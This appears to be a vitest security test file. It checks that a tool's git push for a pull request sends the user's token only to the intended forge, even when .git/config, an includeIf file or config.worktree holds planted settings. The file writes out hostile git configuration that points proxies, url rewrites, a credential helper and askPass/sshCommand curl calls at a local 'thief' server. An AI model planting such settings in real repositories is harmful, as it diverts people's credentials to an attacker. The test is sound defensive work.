import { execFile } from 'node:child_process'
import { appendFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { afterEach, beforeEach, expect, it } from 'vitest'
import type { WorktreePlace } from '../../src/host/workspaces/git-context.ts'
import { GitWorld } from '../../src/testkit/worlds/git-world.ts'
import { ScriptedForge } from '../../src/testkit/scripted-forge.ts'
import { HttpForge, Thief } from './http-forge.ts'

const ACT = { type: 'pull-request', title: 'Add login', body: 'x' } as const

let world: GitWorld
let worktree: WorktreePlace
let forge: HttpForge
let thief: Thief

beforeEach(async () => {
  world = new GitWorld()
  worktree = await world.worktree()
  world.put('login.txt', 'login\n', worktree.path)
  await world.expect('recorded', { type: 'record', subject: 'impl' }, { worktree })
  // For its stand-in for `gh` alone.
  new ScriptedForge(world.root)
  forge = await HttpForge.serving(join(world.root, 'forge'))
  thief = await Thief.listening()
  world.put('.gitconfig', '[credential]\n\thelper = store\n', world.root)
  world.put('.git-credentials', forge.credentials, world.root)
  world.git('remote', 'add', 'origin', forge.url)
})
afterEach(async () => {
  await forge[Symbol.asyncDispose]()
  await thief[Symbol.asyncDispose]()
  world[Symbol.dispose]()
})

/** Every setting of git that could lead the connection, or what it carries, to the thief. */
const leading = (): string => {
  const to = thief.address
  const [, authority = ''] = forge.address.split('//')
  const helper = `!f() { cat >&2; curl -s ${to}/helper; }; f`
  return `
[http]
	proxy = ${to}
	extraHeader = X-Evil: yes
	sslVerify = false
	followRedirects = true
	cookieFile = ${join(world.root, 'cookies')}
	saveCookies = true
[http "${forge.address}"]
	proxy = ${to}
	extraHeader = X-Evil: yes
[https]
	proxy = ${to}
[remote "origin"]
	proxy = ${to}
[url "${to}/"]
	insteadOf = ${forge.address}/
	pushInsteadOf = ${forge.address}/
[url "${to}/me/app.git"]
	pushInsteadOf = ${forge.url}
[credential]
	helper = "${helper}"
[credential "${forge.address}"]
	helper = "${helper}"
[core]
	askPass = curl -s ${to}/askpass
	gitProxy = curl -s ${to}/gitproxy for ${authority}
	sshCommand = curl -s ${to}/ssh
[push]
	pushOption = evil
`
}

const WAYS: [string, (text: string) => void][] = [
  ['.git/config', (text) => appendFileSync(join(world.dir, '.git/config'), text)],
  [
    'a part of .git/config for one branch',
    (text) => {
      writeFileSync(join(world.dir, '.git/planted'), text)
      const include = '[includeIf "onbranch:**"]\n\tpath = planted\n'
      appendFileSync(join(world.dir, '.git/config'), include)
    },
  ],
  [
    'config.worktree',
    (text) => {
      world.git('config', 'extensions.worktreeConfig', 'true')
      writeFileSync(join(world.dir, '.git/config.worktree'), text)
    },
  ],
]

it('T9 the trap is real: a push of git itself hands the login to the thief', async () => {
  appendFileSync(join(world.dir, '.git/config'), `[http]\n\tproxy = ${thief.address}\n`)
  const env = { ...world.env, GIT_TERMINAL_PROMPT: '0' }
  const push = promisify(execFile)('git', ['push', 'origin', 'main'], { cwd: world.dir, env })
  await expect(push).rejects.toThrow()
  expect(thief.stolen.join('\n')).toContain('me:token-of-the-person')
})

it.each(WAYS)(
  'T9 P7 the login of the person reaches only the forge, whatever %s says',
  async (_name, plant) => {
    plant(leading())
    const { commit } = await world.expect('pull-request', ACT, { worktree })
    expect(forge.tipOf('feature/login')).toBe(commit)
    expect(thief.stolen).toEqual([])
    expect(forge.requests.some(({ login }) => login === 'me:token-of-the-person')).toBe(true)
    expect(JSON.stringify(forge.requests)).not.toContain('evil')
    expect(world.has('cookies', world.root)).toBe(false)
  },
)

it('P7 the proxy that the person has configured is used', async () => {
  const proxy = `[http]\n\tproxy = ${thief.address}\n`
  appendFileSync(join(world.root, '.gitconfig'), proxy)
  await world.expect('finding', ACT, { worktree })
  expect(thief.stolen.join('\n')).toContain('/me/app.git/info/refs')
  expect(forge.requests).toEqual([])
})
